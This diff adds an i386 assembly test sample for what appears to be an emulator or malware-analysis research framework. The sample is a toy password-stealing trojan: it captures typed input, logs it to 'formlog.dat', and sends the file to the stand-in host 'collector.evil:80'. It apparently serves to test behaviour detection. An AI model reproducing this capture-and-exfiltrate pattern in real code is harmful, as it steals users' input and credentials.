@@ -1,0 +1,67 @@
+# A hand-assembled i386 trojan in the PWSteal mould (paper §2.1):
+# capture user input, log it to a predefined file, then exfiltrate the
+# collected file to a hardcoded collector address. Assembled by the
+# real GNU toolchain (see build.sh) and loaded through the ELF32
+# frontend; the syscall ABI is the Linux i386 convention the virtual
+# OS implements (int $0x80, EAX=number, EBX/ECX/EDX arguments,
+# socketcall multiplexing).
+	.text
+	.globl	_start
+_start:
+	# capture what the user types
+	movl	$3, %eax		# read(0, keys, 16)
+	movl	$0, %ebx
+	movl	$keys, %ecx
+	movl	$16, %edx
+	int	$0x80
+	movl	%eax, %esi
+	# log it to the predefined file
+	movl	$8, %eax		# creat("formlog.dat")
+	movl	$logf, %ebx
+	int	$0x80
+	movl	%eax, fd
+	movl	%eax, %ebx
+	movl	$keys, %ecx
+	movl	%esi, %edx
+	movl	$4, %eax		# write(fd, keys, n)
+	int	$0x80
+	movl	fd, %ebx
+	movl	$6, %eax		# close(fd)
+	int	$0x80
+exfil:
+	# send the collected file to the hardcoded address
+	movl	$5, %eax		# open("formlog.dat", O_RDONLY)
+	movl	$logf, %ebx
+	movl	$0, %ecx
+	int	$0x80
+	movl	%eax, %ebx
+	movl	$buf, %ecx
+	movl	$16, %edx
+	movl	$3, %eax		# read(fd, buf, 16)
+	int	$0x80
+	movl	%eax, %esi
+	movl	$102, %eax		# socketcall(SOCKET, ...)
+	movl	$1, %ebx
+	movl	$scargs, %ecx
+	int	$0x80
+	movl	%eax, scargs
+	movl	$url, scargs+4
+	movl	$102, %eax		# socketcall(CONNECT, [sock, url])
+	movl	$3, %ebx
+	movl	$scargs, %ecx
+	int	$0x80
+	movl	$buf, scargs+4
+	movl	%esi, scargs+8
+	movl	$102, %eax		# socketcall(SEND, [sock, buf, n])
+	movl	$9, %ebx
+	movl	$scargs, %ecx
+	int	$0x80
+	hlt
+
+	.data
+logf:	.asciz	"formlog.dat"
+url:	.asciz	"collector.evil:80"
+keys:	.space	16
+buf:	.space	16
+fd:	.space	4
+scargs:	.space	12
